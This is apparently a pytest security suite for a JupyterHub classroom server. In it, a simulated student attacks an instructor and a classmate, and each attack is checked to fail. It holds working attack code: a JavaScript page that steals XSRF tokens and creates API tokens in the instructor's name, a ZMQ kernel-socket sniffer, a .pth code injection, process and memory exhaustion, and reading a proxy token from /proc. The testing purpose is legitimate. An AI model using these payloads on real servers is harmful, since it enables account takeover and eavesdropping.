"""Every person in their own room: a student's attacks on the classroom server, each of which must fail.

One hub for the module (as root: accounts ``fcra-*``, removed at the end), started as docs/classroom-server.md
says with each person's limits set low for the student (1 GiB, half a CPU, 256 processes). The
instructor is logged in and has a server running; ``fcra-mallory`` attacks through her own
server, as a student does (code in her kernel, files in her home, a page opened in the
instructor's browser); ``fcra-vic`` is a classmate whose work and server must stay untouched.

- a page served from the student's server origin cannot act as the instructor (a token in their name,
  their files, a terminal), and the instructor's browser is refused at the student's server; the same
  page on one shared origin does get the token, which is what the subdomains close;
- nothing in a home configures that person's server: user config, user site-packages, a JupyterLab
  extension, an ``nbgrader_config.py``, a server proxy to a kernel's own web server;
- no one's kernel can be listened to: kernels use ipc sockets in their owner's home, none is on TCP;
- /tmp and /dev/shm are each person's own, and others' processes are invisible;
- memory, /dev/shm, processes, file size and CPU are capped per person while the others work on;
- removing the hub leaves nothing of the accounts on the machine.
"""

from __future__ import annotations

import json
import os
import pwd
import re
import threading
import time
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

import classroom_support
from classroom.accounts import leftovers
from classroom.api import KERNEL_DIED, scratch_classroom
from classroom.isolation import GROUP_NAME

pytestmark = pytest.mark.hub

PREFIX = "fcra-"
MALLORY, VICTIM, TEACHER = f"{PREFIX}mallory", f"{PREFIX}vic", f"{PREFIX}teacher"
LIMITS = ("--memory", "1024", "--cpus", "0.5", "--processes", "256")


@pytest.fixture(scope="module")
def room():
    if os.geteuid() != 0:
        pytest.skip("the classroom server creates local accounts: run as root (CI does)")
    with scratch_classroom([MALLORY, VICTIM], TEACHER, PREFIX, options=LIMITS) as (api, directory, log):
        room = classroom_support.Classroom(api, directory, log, TEACHER)
        room.tokens = {user: api.start(user) for user in (TEACHER, VICTIM, MALLORY)}
        room.uids = {pwd.getpwnam(user).pw_uid for user in (TEACHER, VICTIM, MALLORY)}
        room.cgroups = json.loads((directory / "hub" / "cgroups.json").read_text())
        yield room
    # Removing the hub leaves nothing of theirs: no process, no cgroup, no file in the shared temporary folders.
    running = [pid for pid in os.listdir("/proc") if pid.isdigit() and _uid(pid) in room.uids]
    assert not running, running
    assert not leftovers(room.uids)
    for parent in room.cgroups.values():
        assert not list((Path(parent) / GROUP_NAME).glob(f"{PREFIX}*"))


def _uid(pid: str) -> int | None:
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return None


def run(room, user: str, code: str, timeout: float = 120, keep: bool = False) -> str:
    """``code`` in a new kernel of ``user``'s server, as they would run it in JupyterLab."""
    return room.api.execute(user, room.tokens[user], code, timeout=timeout, keep=keep)


def test_the_hub_says_which_protections_are_in_force(room):
    log = room.log.read_text()
    assert "limits per person (cgroups v1): memory 1024 MiB" in log and "0.5 CPUs, 256 processes" in log, log[-3000:]
    assert "private /tmp (1024 MiB) and /dev/shm (512 MiB) per person" in log
    assert "disk quotas:" in log
    assert "served from a name of its own" in log and "semi-trusted" not in log


# -- the browser: one origin per person ------------------------------------------------------------------
EVIL_SERVER = r'''
import http.server, json, pathlib, sys
here = pathlib.Path(sys.argv[1])
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path, _, query = self.path.partition("?")
        if path.endswith("/report"):
            with open(here / "reports.jsonl", "a") as out:
                out.write(json.dumps(dict(__import__("urllib.parse").parse.parse_qsl(query))) + "\n")
            body, kind = b"ok", "text/plain"
        else:
            body, kind = (here / "page.html").read_bytes(), "text/html"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
(here / "port").write_text(str(server.server_address[1]))
server.serve_forever()
'''

EVIL_PAGE = r'''<!doctype html><html><body><script>
const HUB = "%(hub)s", TEACHER = "%(teacher)s", TEACHER_SERVER = "%(teacher_server)s";
const report = (k, v) => fetch(location.pathname.replace(/\/page$/, "/report") + "?" +
                                new URLSearchParams({k: k, v: String(v).slice(0, 300)}));
async function attempt(name, f) {
  try { await report(name, await f()); } catch (e) { await report(name, "blocked: " + e); }
}
(async () => {
  await report("ran", location.origin);
  await report("cookie", document.cookie);
  let xsrf = "";
  await attempt("xsrf", async () => {  // hub pages carry their XSRF token; readable from the same origin only
    const page = await (await fetch(HUB + "/hub/home", {credentials: "include"})).text();
    xsrf = (page.match(/xsrf_token: "([^"]+)"/) || [])[1] || "";
    return xsrf ? "read" : "none";
  });
  await attempt("token", async () => {
    const r = await fetch(HUB + "/hub/api/users/" + TEACHER + "/tokens", {method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json", "X-XSRFToken": xsrf}, body: JSON.stringify({note: "taken"})});
    return r.status + " " + (await r.text()).slice(0, 200);
  });
  await attempt("contents", async () => {
    const r = await fetch(TEACHER_SERVER + "/api/contents", {credentials: "include"});
    return r.status + " " + (await r.text()).slice(0, 200);
  });
  await attempt("terminal", async () => {
    const r = await fetch(TEACHER_SERVER + "/api/terminals", {method: "POST", credentials: "include",
      headers: {"X-XSRFToken": xsrf}});
    return r.status + " " + (await r.text()).slice(0, 200);
  });
  await report("done", "1");
})();
</script></body></html>'''


def _proxy_route(room, route: str, target: str) -> None:
    """A route in the hub's proxy, put there as root: it stands for a student who has taken over what their own
    server answers (their server runs as them, beside their kernel), the worst a student's origin can serve."""
    config = (room.directory / "hub" / "jupyterhub_config.py").read_text()
    api_url = re.search(r"^PROXY_API_URL = '([^']+)'", config, re.M).group(1)
    token = None
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
        except OSError:
            continue
        for entry in environ:
            if entry.startswith(b"CONFIGPROXY_AUTH_TOKEN=") and api_url.rsplit(":", 1)[1].encode() in \
                    Path(f"/proc/{pid}/cmdline").read_bytes():
                token = entry.split(b"=", 1)[1].decode()
    assert token, "the proxy's token was not found"
    request = urllib.request.Request(f"{api_url}/api/routes{route}", method="POST",
                                     data=json.dumps({"target": target}).encode(),
                                     headers={"Authorization": f"token {token}"})
    with urllib.request.urlopen(request, timeout=10) as response:
        assert response.status == 201


def _reports(folder: Path, timeout: float = 60) -> dict:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if (folder / "reports.jsonl").is_file():
            lines = [json.loads(line) for line in (folder / "reports.jsonl").read_text().splitlines()]
            found = {line["k"]: line.get("v", "") for line in lines}
            if "done" in found:
                return found
        time.sleep(0.5)
    raise AssertionError(f"the page reported nothing in {timeout} s")


def _teacher_tokens(room) -> set[str]:
    status, tokens = room.api.hub("GET", f"/users/{TEACHER}/tokens")
    assert status == 200, tokens
    return {token["id"] for token in tokens["api_tokens"]}


def test_a_page_from_a_students_server_cannot_act_as_the_instructor(room):
    port = int(room.url.rsplit(":", 1)[1])
    hub = f"http://localhost:{port}"
    teacher_server = f"http://{TEACHER}.localhost:{port}/user/{TEACHER}"
    evil = room.home(MALLORY) / "evil"
    page = EVIL_PAGE % {"hub": hub, "teacher": TEACHER, "teacher_server": teacher_server}
    run(room, MALLORY, f"import pathlib, subprocess, sys, time\n"
                       f"here = pathlib.Path({str(evil)!r}); here.mkdir(exist_ok=True)\n"
                       f"(here / 'page.html').write_text({page!r})\n"
                       f"(here / 'server.py').write_text({EVIL_SERVER!r})\n"
                       "subprocess.Popen([sys.executable, str(here / 'server.py'), str(here)], start_new_session=True)\n"
                       "while not (here / 'port').exists(): time.sleep(0.1)\n")
    target = f"http://127.0.0.1:{(evil / 'port').read_text()}"
    _proxy_route(room, f"/{MALLORY}.localhost/user/{MALLORY}/evil", target)   # her own origin
    _proxy_route(room, f"/localhost/user/{MALLORY}/evil", target)             # as if everyone shared the hub's
    playwright, browser = classroom_support.browser()
    try:
        context, teacher = classroom_support.log_in(browser, room, TEACHER)
        before = _teacher_tokens(room)
        # The instructor opens the link a student sent, while logged in.
        teacher.goto(f"http://{MALLORY}.localhost:{port}/user/{MALLORY}/evil/page")
        reports = _reports(evil)
        assert reports["ran"] == f"http://{MALLORY}.localhost:{port}", reports
        assert "jupyterhub" not in reports["cookie"], reports
        assert not reports["token"].startswith(("200", "201")), reports
        assert not reports["contents"].startswith("200"), reports
        assert not reports["terminal"].startswith(("200", "201")), reports
        assert _teacher_tokens(room) == before
        status, terminals = room.api.server("GET", TEACHER, "/terminals", room.tokens[TEACHER])
        assert status == 200 and terminals == [], terminals

        # The instructor is not let into the student's server either (no scope on students' servers).
        response = teacher.goto(f"http://{MALLORY}.localhost:{port}/user/{MALLORY}/lab")
        assert response.status == 403, (response.status, teacher.url)
        assert not teacher.url.startswith(f"http://{MALLORY}.localhost:{port}/user/{MALLORY}/lab")

        # The same page served on the hub's one origin, as without subdomains: it does get a token in the
        # instructor's name. This is what the subdomains close, and it shows the page above tried for real.
        (evil / "reports.jsonl").unlink()
        teacher.goto(f"{hub}/user/{MALLORY}/evil/page")
        shared = _reports(evil)
        assert shared["token"].startswith("201"), shared
        taken = _teacher_tokens(room) - before
        assert taken
        for token in taken:
            room.api.hub("DELETE", f"/users/{TEACHER}/tokens/{token}")
    finally:
        browser.close()
        playwright.stop()


# -- nothing in a home configures a server ---------------------------------------------------------------
def test_nothing_in_a_students_home_configures_her_server(room):
    markers = {name: room.home(MALLORY) / f"marker-{name}" for name in
               ("server-config", "jupyter-config", "user-site", "nbgrader-config", "lab-config")}
    write = "__import__('pathlib').Path({!r}).write_text('ran')\n".format
    room.write_file(MALLORY, ".jupyter/jupyter_server_config.py", write(str(markers["server-config"])))
    room.write_file(MALLORY, ".jupyter/jupyter_config.py", write(str(markers["jupyter-config"])))
    room.write_file(MALLORY, ".jupyter/jupyter_lab_config.py", write(str(markers["lab-config"])))
    room.write_file(MALLORY, "nbgrader_config.py", write(str(markers["nbgrader-config"])))
    site = ".local/lib/python{}.{}/site-packages".format(*os.sys.version_info[:2])
    room.write_file(MALLORY, f"{site}/evil.pth", "import " + write(str(markers["user-site"])).replace("\n", "") + "\n")
    room.write_file(MALLORY, ".local/share/jupyter/labextensions/evil-ext/package.json",
                    json.dumps({"name": "evil-ext", "version": "1.0.0",
                                "jupyterlab": {"_build": {"load": "static/remoteEntry.js", "extension": "./extension"}}}))
    room.write_file(MALLORY, ".local/share/jupyter/labextensions/evil-ext/static/remoteEntry.js", "alert(1)")
    room.write_file(MALLORY, "v.ipynb", json.dumps({"cells": [{"cell_type": "code", "execution_count": None,
                                                    "metadata": {}, "outputs": [], "source": "x = 1"}],
                                                    "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    # Her config is real: a Jupyter server she started herself outside the hub would run it.
    room.run_as(MALLORY, str(room.bin / "python"), "-c",
                "from jupyter_server.serverapp import ServerApp; ServerApp().load_config_file()")
    assert markers["server-config"].read_text() == "ran" and markers["jupyter-config"].read_text() == "ran"
    for marker in markers.values():
        marker.unlink(missing_ok=True)

    room.api.stop(MALLORY)
    time.sleep(1)
    room.tokens[MALLORY] = token = room.api.start(MALLORY)
    status, validated = room.api.assignments(MALLORY, token, "validate", path="v.ipynb")
    assert status == 200, validated
    status, listed = room.api.assignments(MALLORY, token, "list")
    assert status == 200 and listed["success"], listed
    run(room, MALLORY, "print(1)")
    status, lab = room.api.request("GET", f"{room.url}/user/{MALLORY}/lab", token, host=room.api.host(MALLORY))
    assert status == 200 and "evil-ext" not in lab, lab[:500] if isinstance(lab, str) else lab
    ran = [name for name, path in markers.items() if path.exists()]
    assert not ran, f"code in her home ran in her server: {ran}"
    # A page in her home is served with the script confined to an origin of its own (Jupyter Server's sandbox).
    room.write_file(MALLORY, "page.html", "<script>fetch('/hub/api/user')</script>")
    def get(path):
        request = urllib.request.Request(room.url + path, headers={"Authorization": f"token {token}",
                                                                   "Host": room.api.host(MALLORY)})
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.headers.get("Content-Security-Policy", ""), response.read().decode()

    status, policy, _ = get(f"/user/{MALLORY}/files/page.html")
    assert status == 200 and "sandbox" in policy and "allow-same-origin" not in policy, policy
    status, policy, body = get(f"/user/{MALLORY}/view/page.html")  # Jupyter's page, the file in a sandboxed frame
    assert status == 200 and "<script>fetch" not in body
    # No server proxy: a web server her kernel starts is not reachable through the hub.
    port = run(room, MALLORY, "import socket, subprocess, sys\ns = socket.socket(); s.bind(('127.0.0.1', 0))\n"
                              "port = s.getsockname()[1]; s.close()\n"
                              "subprocess.Popen([sys.executable, '-m', 'http.server', str(port), '--bind', "
                              "'127.0.0.1'], start_new_session=True)\nprint(port)").strip()
    for path in (f"/user/{MALLORY}/proxy/{port}/", f"/user/{MALLORY}/proxy/absolute/{port}/"):
        status, _ = room.api.request("GET", room.url + path, token, host=room.api.host(MALLORY))
        assert status == 404, (path, status)


# -- kernels ----------------------------------------------------------------------------------------------
SNIFFER = r'''
import socket, time, zmq
endpoints, unix = set(), []
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(table).read().splitlines()[1:]:
        f = line.split()
        if f[3] == "0A":
            endpoints.add("tcp://127.0.0.1:%%d" %% int(f[1].split(":")[1], 16))
for line in open("/proc/net/unix").read().splitlines()[1:]:
    f = line.split()
    if len(f) >= 8 and f[7].startswith("/"):
        endpoints.add("ipc://" + f[7]); unix.append(f[7])
context = zmq.Context()
poller, subs = zmq.Poller(), []
for endpoint in endpoints:
    s = context.socket(zmq.SUB); s.setsockopt(zmq.SUBSCRIBE, b""); s.setsockopt(zmq.LINGER, 0)
    try:
        s.connect(endpoint)
    except zmq.ZMQError:
        continue
    poller.register(s, zmq.POLLIN); subs.append(s)
got, end = [], time.time() + 6
while time.time() < end:
    for s, _ in poller.poll(200):
        got.append(b"".join(s.recv_multipart()))
refused = 0
for path in unix:
    if "/home/%(teacher)s/" in path:
        try:
            socket.socket(socket.AF_UNIX).connect(path)
        except PermissionError:
            refused += 1
print("endpoints", len(endpoints), "messages", len(got), "heard", any(b"%(secret)s" in m for m in got),
      "teacher-sockets-refused", refused)
'''


def test_no_one_can_listen_to_another_persons_kernel(room):
    secret = "teacher-secret-" + os.urandom(4).hex()
    said = run(room, TEACHER, f"import threading, time\nprint({secret!r})\n"
                              "def say():\n    for _ in range(150):\n"
                              f"        print({secret!r}, flush=True); time.sleep(0.1)\n"
                              "threading.Thread(target=say, daemon=True).start()\n", keep=True)
    assert secret in said
    # Every channel of the instructor's kernels is an ipc socket in their home (ipykernel's one TCP socket is the
    # pipe its forked children write their output into: it takes messages, sends none, and drops those
    # without the kernel's own secret).
    runtime = room.home(TEACHER) / ".local" / "share" / "jupyter" / "runtime"
    connections = [json.loads(path.read_text()) for path in runtime.glob("kernel-*.json")]
    assert connections and {c["transport"] for c in connections} == {"ipc"}, connections
    assert all(c["ip"].startswith(str(runtime)) for c in connections), connections
    heard = run(room, MALLORY, SNIFFER % {"secret": secret, "teacher": TEACHER}, timeout=60)
    fields = heard.split()
    assert fields[0] == "endpoints" and int(fields[1]) > 0, heard
    assert fields[5] == "False", heard
    assert int(fields[7]) > 0, heard  # she could see the instructor's kernel sockets, and not connect to them
    # nbgrader's Validate starts its kernel the same way.
    room.write_file(MALLORY, "transport.ipynb", json.dumps({"cells": [{
        "cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
        "source": "import json, ipykernel\nassert json.load(open(ipykernel.get_connection_file()))['transport'] == 'ipc'"}],
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
        "nbformat": 4, "nbformat_minor": 5}))
    status, validated = room.api.assignments(MALLORY, room.tokens[MALLORY], "validate", path="transport.ipynb")
    assert status == 200 and validated.get("success") and "AssertionError" not in json.dumps(validated), validated


# -- private /tmp, /dev/shm and processes -------------------------------------------------------------------
def test_tmp_and_shared_memory_are_her_own_and_others_processes_invisible(room):
    planted = run(room, MALLORY, "import os\nos.makedirs('/tmp/dask-scratch-space', exist_ok=True)\n"
                                 "os.chmod('/tmp/dask-scratch-space', 0o777)\n"
                                 "open('/tmp/dask-scratch-space/planted.py', 'w').write('raise SystemExit')\n"
                                 "open('/dev/shm/planted', 'w').write('x')\n"
                                 "open('/var/tmp/fcra-left-behind', 'w').write('x')\n"
                                 "import subprocess\nprint(subprocess.run(['ps', '-eo', 'user:32='], "
                                 "capture_output=True, text=True).stdout)")
    assert set(planted.split()) == {MALLORY}, planted
    seen = run(room, TEACHER, "import os\nprint(os.path.exists('/tmp/dask-scratch-space'), "
                              "os.path.exists('/dev/shm/planted'))")
    assert seen.split() == ["False", "False"], seen
    assert not Path("/tmp/dask-scratch-space/planted.py").exists() and not Path("/dev/shm/planted").exists()


# -- limits per person ------------------------------------------------------------------------------------
def test_one_student_exhausting_her_limits_leaves_the_others_working(room):
    exchange = room.directory / "exchange" / "finetune-course" / "inbound"
    processes = run(room, MALLORY, "import subprocess\nchildren = []\ntry:\n    while len(children) < 2000:\n"
                                   "        children.append(subprocess.Popen(['sleep', '60']))\n"
                                   "except OSError as error:\n    print(len(children), type(error).__name__)\n"
                                   "for child in children:\n    child.kill(); child.wait()\n")
    count, error = processes.split()
    assert int(count) < 256 and error in ("BlockingIOError", "OSError"), processes
    shm = run(room, MALLORY, "import errno\nwritten = 0\ntry:\n    with open('/dev/shm/fill', 'wb') as out:\n"
                             "        while written < 2 << 30:\n            out.write(b'x' * (1 << 20)); "
                             "written += 1 << 20\nexcept OSError as error:\n    print(errno.errorcode[error.errno], "
                             "written >> 20)\nimport os; os.remove('/dev/shm/fill')")
    code, mib = shm.split()
    assert code == "ENOSPC" and int(mib) <= 512, shm
    big = run(room, MALLORY, "import errno\nwritten = 0\ntry:\n"
                             f"    with open({str(exchange / 'fcra-mallory+x+big')!r}, 'wb') as out:\n"
                             "        while written < 1 << 30:\n            out.write(b'x' * (1 << 20)); "
                             "written += 1 << 20\nexcept OSError as error:\n    print(errno.errorcode[error.errno], "
                             "written >> 20)")
    code, mib = big.split()
    assert code == "EFBIG" and int(mib) <= 512, big
    (exchange / "fcra-mallory+x+big").unlink()
    memory = run(room, MALLORY, "blocks = []\nwhile len(blocks) < 3072:\n    blocks.append(bytearray(1 << 20))\n"
                                "print('allocated', len(blocks))")
    assert memory.endswith(KERNEL_DIED), memory  # killed by her cgroup at 1 GiB, not 3
    # CPU: four busy processes get half a CPU between them, while the others work on.
    work = room.write_file(VICTIM, "work.txt", "vic's own work\n")
    cpu = next(Path(p) / GROUP_NAME / MALLORY for c, p in room.cgroups.items() if c in ("cpu", "unified"))
    stat_file = cpu / "cpu.stat"
    before = dict(line.split() for line in stat_file.read_text().splitlines())
    spin = threading.Thread(target=run, args=(room, MALLORY, "import multiprocessing, time\ndef spin():\n"
                                                      "    end = time.time() + 10\n    while time.time() < end: pass\n"
                                                      "ps = [multiprocessing.Process(target=spin) for _ in range(4)]\n"
                                                      "[p.start() for p in ps]; [p.join() for p in ps]"))
    spin.start()
    time.sleep(3)  # her four processes are spinning: the others' kernels start and answer meanwhile
    meanwhile = {user: run(room, user, "print(6 * 7)").strip() for user in (VICTIM, TEACHER)}
    spin.join()
    after = dict(line.split() for line in stat_file.read_text().splitlines())
    assert int(after["nr_throttled"]) > int(before["nr_throttled"]), (before, after)
    assert meanwhile == {VICTIM: "42", TEACHER: "42"}, meanwhile
    assert work.read_text() == "vic's own work\n"
    # And after.
    for user in (VICTIM, TEACHER):
        assert run(room, user, "print(6 * 7)").strip() == "42"
        status, _ = room.api.server("GET", user, "/status", room.tokens[user])
        assert status == 200


def test_the_instructor_runs_the_class_from_the_admin_page_without_entering_students_servers(room):
    teacher = room.tokens[TEACHER]
    status, page = room.api.request("GET", f"{room.url}/hub/admin", teacher)
    assert status == 200 and "admin" in page.lower(), status
    status, users = room.api.request("GET", f"{room.url}/hub/api/users", teacher)
    assert status == 200 and {MALLORY, VICTIM} <= {u["name"] for u in users}, users
    # Start and stop a student's server, as the admin page's buttons do...
    status, _ = room.api.request("DELETE", f"{room.url}/hub/api/users/{VICTIM}/server", teacher)
    assert status in (202, 204), status
    deadline = time.monotonic() + 60
    while room.api.hub("GET", f"/users/{VICTIM}")[1]["servers"]:
        assert time.monotonic() < deadline
        time.sleep(0.5)
    status, _ = room.api.request("POST", f"{room.url}/hub/api/users/{VICTIM}/server", teacher)
    assert status in (201, 202), status
    room.tokens[VICTIM] = room.api.start(VICTIM)
    # ... but not use it, nor make a token to.
    status, _ = room.api.server("GET", VICTIM, "/contents", teacher)
    assert status == 403, status
    status, _ = room.api.request("POST", f"{room.url}/hub/api/users/{VICTIM}/tokens", teacher, b"{}",
                                 "application/json")
    assert status == 403, status
